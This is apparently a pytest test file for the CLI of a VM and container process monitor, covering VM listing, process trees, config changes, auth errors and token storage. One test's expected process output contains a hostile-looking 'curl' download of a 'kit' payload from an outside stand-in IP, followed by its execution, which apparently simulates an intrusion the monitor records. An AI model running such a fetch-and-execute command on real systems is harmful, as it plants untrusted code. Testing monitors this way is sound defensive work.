"""The command-line client against a running receiver."""

import asyncio
import contextlib
import io
import json
from pathlib import Path

import pytest

from receiver.cli import main
from receiver.client import draw_tree
from tests.conftest import TEST_TOKEN, read_vector
from tests.receiver.api.conftest import Api
from tests.receiver.guests import AnsweringGuest
from tests.receiver.helpers import stream_and_store


async def run(
    api: Api, capsys: pytest.CaptureFixture[str], *argv: str
) -> tuple[int, str, str]:
    """Run the CLI in a thread (it blocks) while the receiver serves."""
    capsys.readouterr()
    address = api.url.removeprefix("http://")
    token_dir = Path(api.running.service.settings.data_dir)
    status = await asyncio.to_thread(
        main, [*argv, "--api", address, "--data-dir", str(token_dir)]
    )
    captured = capsys.readouterr()
    return status, captured.out, captured.err


@pytest.fixture
def token_file(api: Api) -> Path:
    """The operator token where the CLI looks by default."""
    path = Path(api.running.service.settings.data_dir) / "api-token"
    path.write_text(TEST_TOKEN + "\n")
    return path


async def test_vms_ps_and_tree(
    api: Api, token_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    await stream_and_store(api.running, "vm-a", read_vector("web-pod.bin"))
    status, out, _ = await run(api, capsys, "vms")
    assert status == 0
    assert out.splitlines()[0].split() == [
        "NAME",
        "TRANSPORT",
        "ADDRESS",
        "STATE",
        "PROTOCOL",
        "BOOTS",
    ]
    assert out.splitlines()[1].split()[0] == "vm-a"

    status, out, _ = await run(api, capsys, "ps", "vm-a")
    assert status == 0
    assert "curl -so /tmp/kit http://198.51.100.7/kit" in out
    status, out, _ = await run(api, capsys, "ps", "vm-a", "--json")
    assert len(json.loads(out)) == 8

    status, out, _ = await run(api, capsys, "tree", "vm-a")
    assert status == 0
    lines = out.splitlines()
    assert lines[0].startswith("1 /sbin/init")
    assert any(line.endswith("900 sh  [container 2] [exec 7]") for line in lines)
    assert any("└── 902 /tmp/kit --quiet" in line for line in lines)


async def test_config_show_and_set(
    api: Api, token_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    guest = await AnsweringGuest.connect(api.running.sockets["vm-a"])
    await guest.wait_requests(1)
    status, out, _ = await run(
        api,
        capsys,
        "config",
        "set",
        "vm-a",
        "execute_config.argv_limit=1000",
        "execute_config.envp_allowlist=PATH,HOME",
        "memexec_config=null",
    )
    assert status == 0, out
    assert out.startswith("applied: the guest answered")
    assert guest.requests[-1].execute_config.argv_limit == 1000
    assert list(guest.requests[-1].execute_config.envp_allowlist) == ["PATH", "HOME"]
    assert not guest.requests[-1].HasField("memexec_config")

    status, out, _ = await run(api, capsys, "config", "show", "vm-a")
    assert "source: vm (generation 1)" in out
    assert "memexec_config: off" in out
    status, out, _ = await run(api, capsys, "config", "show", "*", "--json")
    assert json.loads(out)["source"] == "builtin"
    await guest.close()


async def test_client_errors_are_one_line(
    api: Api, token_file: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, _, err = await run(api, capsys, "ps", "ghost")
    assert status == 1
    assert err == "csm-receiver: 404 Not found: no VM named 'ghost'\n"
    await asyncio.to_thread(token_file.write_text, "wrong\n")
    status, _, err = await run(api, capsys, "vms")
    assert status == 1
    assert err == "csm-receiver: 401 Unauthorized: unknown token\n"


def test_token_add_prints_the_token_and_stores_its_digest(tmp_path: Path) -> None:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        assert (
            main(
                [
                    "token",
                    "add",
                    "--role",
                    "viewer",
                    "--label",
                    "dana",
                    "--data-dir",
                    str(tmp_path),
                ]
            )
            == 0
        )
    token = out.getvalue().strip()
    stored = (tmp_path / "tokens").read_text()
    assert token and token not in stored and stored.split()[1:] == ["viewer", "dana"]


def test_tree_drawing_survives_cycles() -> None:
    a = {
        "uuid": "a",
        "parent_uuid": "b",
        "pid": 1,
        "binary": "/a",
        "argv": None,
        "container_id": 0,
        "exec_session_id": 0,
        "exited_at": None,
    }
    b = dict(a, uuid="b", parent_uuid="a", pid=2, binary="/b")
    assert draw_tree([a, b], ["a"]) == ["1 /a", "└── 2 /b"]
